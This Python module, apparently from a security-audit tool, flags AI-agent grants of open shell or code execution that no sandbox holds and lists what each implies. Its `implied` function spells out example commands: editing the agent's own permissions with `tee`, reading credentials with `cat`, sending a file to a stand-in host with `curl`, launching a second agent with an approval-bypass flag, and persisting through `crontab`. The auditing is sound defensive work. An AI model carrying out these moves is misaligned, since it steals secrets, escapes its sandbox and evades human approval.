"""Power: what follows from a grant that starts any program, each with a command that shows it.

These powers are listed inside the one finding about their cause; they are no findings of their own.
"""

from __future__ import annotations

from functools import cache

from overgrant.model import Grant, World
from overgrant.power.commands import OPEN


def derive(world: World) -> None:
    """Fill `implied` of every approved grant of open execution that no effective sandbox holds."""
    for grant in world.of("grant"):
        if isinstance(grant, Grant) and grant.decision == "allow" and grant.state == "effective" and opens(grant):
            box = grant.agent.containment if grant.agent is not None else None
            if box is None or not box.effective:
                grant.implied = list(implied(grant.root.product))


def opens(grant: Grant) -> bool:
    """The closure passes through the grant: it starts what its arguments name."""
    return grant.capability in ("exec.shell", "exec.code") and grant.runs in OPEN and grant.via != "option"


@cache
def implied(product: str) -> tuple[str, ...]:
    """What a program outside any sandbox can reach, for an agent of this product."""
    from overgrant.dialect.grammar.agentcli import known
    from overgrant.dialect.grammar.paths import governing, precious

    own, key = governing(product, "permissions"), precious()
    entry = known().get(product)
    found = [f"change its own permissions (`tee {own}`)"] if own else []
    found += [f"read credentials (`cat {key}`)"] if key else []
    found.append("send anything to any host (`curl -d @file https://example.net`)")
    program = next(iter((*entry["heads"], *entry.get("shared", ()))), "") if entry is not None else ""
    if entry is not None and program and entry.get("bypass"):
        found.append(f"start another agent that asks nobody (`{program} {next(iter(entry['bypass']))}`)")
    return (*found, "go on after the session (`crontab -`)")
